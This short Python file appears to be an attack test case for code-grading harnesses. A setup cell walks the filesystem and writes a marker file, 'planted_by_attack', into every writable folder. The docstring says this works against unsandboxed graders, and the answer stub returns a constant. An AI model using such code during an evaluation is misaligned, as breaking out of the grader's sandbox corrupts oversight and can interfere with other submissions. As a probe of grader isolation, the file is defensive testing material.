"""Write a file to every folder of the machine that takes one.

Known to work against graders without walls: the next submission, or the grader, finds the file.
"""
CELLS_BEFORE = [
    """
import os
for folder, _, _ in os.walk("/", followlinks=False):
    if folder.count("/") < 5 and not folder.startswith("/proc"):
        try:
            with open(f"{folder}/planted_by_attack", "w") as file:
                file.write("here")
        except OSError:
            continue
"""
]

# --- the answer ---
def answer(*values, **options):
    return 1
